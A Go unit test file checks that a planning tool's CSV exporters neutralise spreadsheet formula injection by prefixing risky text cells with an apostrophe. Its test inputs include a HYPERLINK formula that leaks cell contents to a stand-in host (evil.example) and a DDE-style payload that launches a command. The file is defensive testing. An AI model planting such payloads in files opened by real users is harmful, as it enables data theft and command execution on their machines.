package formats

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/civplan/civplan/facilities"
	"github.com/paulmach/orb"
)

func TestCSVText(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, `'=HYPERLINK("http://evil.example/?"&A1,"点击")`},
		{"+86 138 0000", "'+86 138 0000"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-5", "-5"},       // a number written as text stays a number
		{"+1.5", "+1.5"},   //
		{"-1e3", "-1e3"},   //
		{"-Inf", "'-Inf"},  // not a number a spreadsheet knows
		{"+NaN", "'+NaN"},  //
		{"古夫镇", "古夫镇"},     // ordinary text
		{"a=b", "a=b"},     // only the first character matters
		{"", ""},           //
		{"'=1", "'=1"},     // already neutral
		{" =1+1", " =1+1"}, // Excel treats a leading space as text
	} {
		if got := CSVText(tc.in); got != tc.want {
			t.Errorf("CSVText(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// parseCSVAnswer parses a BOM-prefixed CSV answer into records.
func parseCSVAnswer(t *testing.T, b []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// Both CSV writers (tables and layers) neutralise text cells and leave numbers alone.
func TestCSVWritersNeutraliseFormulas(t *testing.T) {
	evil := `=HYPERLINK("http://evil.example/?"&A1,"点击")`
	var buf bytes.Buffer
	tab := facilities.Table{Columns: []facilities.Column{{Key: "name", TitleZH: "名称"}, {Key: "n", TitleZH: "数"}, {Key: "f", TitleZH: "比例"}},
		Rows: [][]any{{evil, -5, -0.25}, {"@x", int64(-7), 1.5}}, Notes: []string{"-注"}}
	if err := WriteTableCSV(&buf, tab); err != nil {
		t.Fatal(err)
	}
	recs := parseCSVAnswer(t, buf.Bytes())
	want := [][]string{{"名称", "数", "比例"}, {"'" + evil, "-5", "-0.25"}, {"'@x", "-7", "1.5"}, {"'-注"}}
	rows := [][]string{recs[0], recs[1], recs[2], recs[len(recs)-1]}
	for i := range want {
		if strings.Join(rows[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("table row %d: %q, want %q", i, rows[i], want[i])
		}
	}
	buf.Reset()
	l := &Layer{Name: "f", GeomType: "POINT", Columns: []Column{{Name: "name", HeaderZH: "名称", Type: Text}, {Name: "beds", HeaderZH: "床位", Type: Integer}, {Name: "d", HeaderZH: "差", Type: Real}},
		Rows: []Row{{ID: 1, Geom: orb.Point{110.3, 31.5}, Values: []any{"+cmd|' /C calc'!A0", int64(-3), -1.25}}}}
	wgs, err := ParseExportCRS("wgs84", 0)
	if err != nil {
		t.Fatal(err)
	}
	if err := WriteCSV(&buf, l, wgs); err != nil {
		t.Fatal(err)
	}
	recs = parseCSVAnswer(t, buf.Bytes())
	if got := strings.Join(recs[1], "|"); got != "'+cmd|' /C calc'!A0|-3|-1.25|110.3|31.5" {
		t.Errorf("layer row: %q", got)
	}
}
